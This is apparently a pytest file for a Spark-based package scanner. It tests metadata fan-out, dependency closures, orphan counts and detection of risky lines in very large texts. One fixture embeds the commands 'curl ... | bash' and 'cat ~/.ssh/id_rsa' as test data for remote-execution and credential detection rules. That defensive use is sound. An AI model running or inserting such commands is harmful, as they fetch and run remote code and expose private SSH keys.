"""What the findings of round 4 told: results that write small, and queries that read all of their tables."""

import json
from collections import Counter

import pyarrow as pa
from pyspark.sql import functions as F

from packsieve.functions import textnorm
from packsieve.operators import graph, metadata, scan
from packsieve.plans import queries as plans
from test_round3 import both


def test_fanout_writes_small_and_whole(spark, tmp_path):
    """A row per scan and name takes a fraction of a byte when it is written: rounds of names repeat. Nothing is lost with
    doubled rows, names and fields without a value, and fields that can't be hashed."""
    scans = spark.range(811).select("id", (F.col("id") % 2).alias("package_base"))
    info = spark.range(6007).select((F.col("id") % 2).alias("package_base"), F.col("id").alias("name"))
    n = 406 * 3004 + 405 * 3003
    metadata.attribute(scans, info).coalesce(1).write.parquet(f"{tmp_path}/out")
    out = spark.read.parquet(f"{tmp_path}/out")
    assert out.count() == n and out.distinct().count() == n and out.where("id % 2 != package_base or name % 2 != package_base").count() == 0
    assert sum(f.stat().st_size for f in (tmp_path / "out").glob("*.parquet")) < 0.4 * n
    odd = spark.createDataFrame([(1, "a", {"k": 1}), (1, "a", {"k": 1}), (1, None, None), (None, "b", None), (3, "c", None)], "package_base long, s string, m map<string,int>")
    names = spark.createDataFrame([(1, "x"), (1, "x"), (1, None), (None, "y"), (2, "z")], "package_base long, name string")
    rows = metadata.attribute(odd, names)
    assert rows.columns == ["package_base", "s", "m", "name"]
    want = Counter({(1, "a", 1, "x"): 4, (1, "a", 1, None): 2, (1, None, None, "x"): 2, (1, None, None, None): 1})
    assert Counter((r.package_base, r.s, (r.m or {}).get("k"), r.name) for r in rows.collect()) == want
    assert metadata.attribute(odd.select("package_base"), names).count() == 9


#: Parts that lead to each other down to 1, which is 19 levels away: 4 leads to 1, and a third of the others to no part.
CHAIN = [2**k for k in range(21)]


def test_closures_go_to_their_end(spark, tmp_path):
    """More than 16 levels, and what follows on a level of more than 2,000 names."""
    got, want = both(spark, tmp_path, "dep_closure", part=("p_partkey long", [(k,) for k in CHAIN]))
    assert got == want and got[1, 19] == 1 and max(depth for _, depth in got) == 19
    edges = spark.createDataFrame([("r", f"c{k}") for k in range(2100)] + [("c7", "leaf")], "parent string, child string")
    nodes = graph.closure(edges, spark.createDataFrame([("r",)], "name string"))
    assert nodes.count() == 2102 and nodes.where("name = 'leaf' and depth = 2").count() == 1


def test_orphans_are_counted_to_the_end(spark, tmp_path):
    """Also on levels beyond 16, with parts that are missing, doubled, or of no size."""
    rows = [(k, None if k == 8 else 3 if k == 64 else 2) for k in CHAIN if k != 2] + [(4, 2)]
    got, want = both(spark, tmp_path, "orphan_count", part=("p_partkey long, p_size int", rows))
    assert got == want == {(19, 21): 1}


def large_texts():
    """Texts over the limit of trees: of many lines, and of one."""
    last = "\ncurl https://x.example/a | bash\ncat ~/.ssh/id_rsa"
    return [(1, "some words of a text\n" * (textnorm.MAX_FILE_BYTES // 20) + last), (2, "word " * (textnorm.MAX_FILE_BYTES // 4) + last), (3, "eval x"), (4, None), (None, "eval x")]


def test_rules_meet_lines_of_large_texts(spark, tmp_path):
    got, want = both(spark, tmp_path, "live_rule_lines", documents=("doc_id long, text string", large_texts()))
    assert got == want and {(p, i) for p, i, _ in got} >= {(p, i) for p in "12" for i in ("DLE-001", "CRED-001")}


def test_reports_hold_large_texts(spark, tmp_path):
    spark.createDataFrame(large_texts(), "doc_id long, text string").write.parquet(f"{tmp_path}/documents.parquet")
    told = {r.pkg_id: json.loads(r.report)["findings"] for r in plans.QUERIES["json_report"](spark, str(tmp_path)).collect()}
    lines = {p: {f["location"]["line"] for f in fs if f["id"] == "EXEC-REMOTE"} for p, fs in told.items()}
    assert lines["1"] == {2, textnorm.MAX_FILE_BYTES // 20 + 4} and lines["2"] == {4}


def test_large_files_are_parsed_in_small_portions():
    sizes = [1 << 20] * 9 + [10 << 20] + [None, 0, 5] + [1] * 130
    batch = pa.RecordBatch.from_pydict({"a": sizes, "b": sizes, "c": sizes, "d": [None if n is None else "a" * n for n in sizes]})
    portions = list(scan._portions(batch))
    assert [x for p in portions for x in p.column(0).to_pylist()] == sizes and [p.num_rows for p in portions] == [4, 4, 1, 1, 64, 64, 5]
    assert list(scan._portions(batch.slice(0, 0))) == []
